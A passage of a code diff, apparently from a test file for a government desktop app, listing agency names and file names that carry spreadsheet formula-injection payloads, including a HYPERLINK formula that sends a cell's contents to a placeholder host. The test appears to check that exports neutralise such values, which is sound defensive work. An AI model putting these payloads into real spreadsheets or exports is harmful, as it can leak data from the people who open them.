@@ -24,17 +24,18 @@ from digigov_desktop.services.import_ import Importer
 from digigov_desktop.signing.authority import CertificateAuthority
 from digigov_desktop.storage import central
 
-# code → (name in the agency's own database, name the coordinator registered)
-AGENCIES = {
-    "AG-EQ": ("=2+3", "Servicio Igual"),
-    "AG-PLUS": ("+SUM(1,2)", "Servicio Más"),
-    "AG-MINUS": ("-2+3", "Servicio Menos"),
-    "AG-AT": ("@SUM(1+2)", "Servicio Arroba"),
-    "AG-TAB": ("\t=1+2", "Servicio Tabulador"),
-    "AG-CR": ('\r=HYPERLINK("http://example.invalid/?"&A2,"x")', "Servicio Retorno"),
+# (code, name in the agency's own database, name the coordinator registered)
+HOSTILE = [
+    ("AG-EQ", "=2+3", "Servicio Igual"),
+    ("AG-PLUS", "+SUM(1,2)", "Servicio Más"),
+    ("AG-MINUS", "-2+3", "Servicio Menos"),
+    ("AG-AT", "@SUM(1+2)", "Servicio Arroba"),
+    ("AG-TAB", "\t=1+2", "Servicio Tabulador"),
+    ("AG-CR", '\r=HYPERLINK("http://example.invalid/?"&A2,"x")', "Servicio Retorno"),
     # a registry name that itself starts with a trigger: stored as text, not as a formula
-    "AG-REG": ("Servicio Registro", "=Registro Especial"),
-}
+    ("AG-REG", "Servicio Registro", "=Registro Especial"),
+]
+AGENCIES = {code: (own, registered) for code, own, registered in HOSTILE}
 # agency-controlled file names, imported by relative path (as `digigov import *.pdf` would)
 FILE_NAMES = {
     "AG-EQ": "=1+2.pdf", "AG-PLUS": "+1.pdf", "AG-MINUS": "-1.pdf", "AG-AT": "@1.pdf",
